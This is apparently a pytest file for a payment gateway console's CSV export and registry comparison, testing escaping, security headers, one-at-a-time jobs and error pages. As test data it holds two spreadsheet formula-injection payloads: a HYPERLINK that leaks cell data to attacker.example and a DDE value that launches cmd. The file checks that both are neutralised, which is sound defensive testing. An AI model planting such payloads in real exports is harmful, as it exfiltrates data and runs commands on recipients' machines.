"""The console's heavy operations (the CSV export, the registry comparison): one at a
time, in a worker process running the CLI's own functions, every response with the
console's headers, and a failure of any kind one line on a page, never a traceback."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
from pathlib import Path
from typing import Any

import asyncpg
import pytest

from qiwi_gw import keys as gateway_keys
from qiwi_gw.console import create_console_app, heavy, keys
from qiwi_gw.console.security import CONTENT_SECURITY_POLICY
from qiwi_gw.console.worker import DATABASE, UNREADABLE, ReconcileJob
from qiwi_gw.ops import reconciliation
from qiwi_gw.settings import Settings
from tests.support.app import ClientFactory
from tests.support.cli import run_process
from tests.support.console import Pair, start_pair
from tests.support.database import with_database
from tests.support.rows import add_payment

PERIOD = {"from": "2026-11-01", "to": "2026-11-02"}
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


@pytest.fixture
async def pair(make_client: ClientFactory, aiohttp_client: Any, database_dsn: str) -> Pair:
    return await start_pair(make_client, aiohttp_client, database_dsn)


async def test_the_download_is_what_qiwi_gw_export_writes(
    pair: Pair, database_dsn: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger=heavy.__name__)
    add_payment(database_dsn, "8101", txn_date="2026-11-01 09:00:00", account=FORMULA)
    add_payment(
        database_dsn, "8102", txn_date="2026-11-02 10:00:00", account="+1+cmd|' /C calc'!A0"
    )
    add_payment(database_dsn, "8103", txn_date="2026-11-03 00:00:00")
    response = await pair.console.get("/registry/export.csv", params=PERIOD)
    assert response.status == 200
    downloaded = await response.read()
    cli = run_process(
        "export", "--from", PERIOD["from"], "--to", PERIOD["to"], env={"DATABASE_URL": database_dsn}
    )
    assert cli.returncode == 0, cli.stderr
    assert downloaded == cli.stdout.encode()
    # Written by the CLI's own export, in a process of its own, which said so.
    assert "console export: qiwi-gw export: 2 payment(s)" in caplog.text
    rows = list(csv.reader(io.StringIO(downloaded.decode())))
    accounts = {row[0]: row[2] for row in rows[1:]}
    # A spreadsheet shows these as text: no formula runs.
    assert accounts["8101"] == "'" + FORMULA
    assert accounts["8102"].startswith("'+")


async def test_the_download_carries_the_console_headers(pair: Pair, database_dsn: str) -> None:
    add_payment(database_dsn, "8201", txn_date="2026-11-01 09:00:00")
    response = await pair.console.get("/registry/export.csv", params=PERIOD)
    assert response.status == 200
    await response.read()
    assert response.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Server"] == "qiwi-gw"


async def test_one_heavy_operation_at_a_time(pair: Pair) -> None:
    token = await pair.csrf("/registry")
    async with pair.console.app[keys.HEAVY].hold():
        response = await pair.console.get("/registry/export.csv", params=PERIOD)
        assert response.status == 429
        assert response.headers["Retry-After"] == "5"
        assert "try again in a moment" in await response.text()
        form = {"csrf": token}
        files = {"file": io.BytesIO(b"txn_id;account;sum;date\n")}
        response = await pair.console.post("/registry", data={**form, **files})
        assert response.status == 429
    response = await pair.console.get("/registry/export.csv", params=PERIOD)
    assert response.status == 200


async def test_an_export_without_its_database_is_a_page(
    make_client: ClientFactory, aiohttp_client: Any, database_dsn: str
) -> None:
    gateway = await make_client()
    gone = with_database(database_dsn, "no_such_database")
    console = await aiohttp_client(
        create_console_app(gateway.app[gateway_keys.SETTINGS], gone, gateway.app)
    )
    response = await console.get("/registry/export.csv", params=PERIOD)
    page = await response.text()
    assert response.status == 503
    assert "<h1>Export failed</h1>" in page
    assert "no_such_database" in page
    assert "Traceback" not in page


def _job(database_dsn: str, path: Path) -> ReconcileJob:
    settings = Settings.from_env({"DATABASE_URL": database_dsn})
    return ReconcileJob(settings, database_dsn, path, "QIWI_1_20261101.csv", None)


async def test_a_failure_the_rules_did_not_foresee_is_could_not_read(
    database_dsn: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("a bug of ours")

    monkeypatch.setattr(reconciliation, "reconcile", broken)
    path = tmp_path / "registry.csv"
    path.write_bytes(b"txn_id;account;sum;date\n")
    outcome = await _job(database_dsn, path).compare()
    assert outcome.kind == UNREADABLE
    assert outcome.problem == "QIWI_1_20261101.csv: could not read the file"


async def test_a_database_lost_mid_comparison_is_the_database(
    database_dsn: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def cut(*args: object, **kwargs: object) -> None:
        raise asyncpg.ConnectionDoesNotExistError("connection was closed in the middle")

    monkeypatch.setattr(reconciliation, "reconcile", cut)
    path = tmp_path / "registry.csv"
    path.write_bytes(b"txn_id;account;sum;date\n")
    outcome = await _job(database_dsn, path).compare()
    assert outcome.kind == DATABASE
    assert "connection was closed" in outcome.problem


async def test_a_worker_that_dies_is_could_not_read(
    database_dsn: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(heavy, "WORKER", ("/bin/sh", "-c", "cat >/dev/null; exit 9"))
    outcome = await heavy.reconcile(_job(database_dsn, tmp_path / "r.csv"))
    assert outcome.kind == UNREADABLE


async def test_the_worker_is_gone_when_the_browser_is(
    pair: Pair, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    started = tmp_path / "started"
    # A worker that writes a first chunk, then never ends.
    script = f"cat >/dev/null; touch {started}; head -c 70000 /dev/zero; exec sleep 600"
    monkeypatch.setattr(heavy, "WORKER", ("/bin/sh", "-c", script))
    response = await pair.console.get("/registry/export.csv", params=PERIOD)
    await response.content.readexactly(1000)
    response.close()
    async with asyncio.timeout(10):
        while pair.console.app[keys.HEAVY].busy:  # noqa: ASYNC110 - no event to wait on
            await asyncio.sleep(0.02)
    assert started.exists()
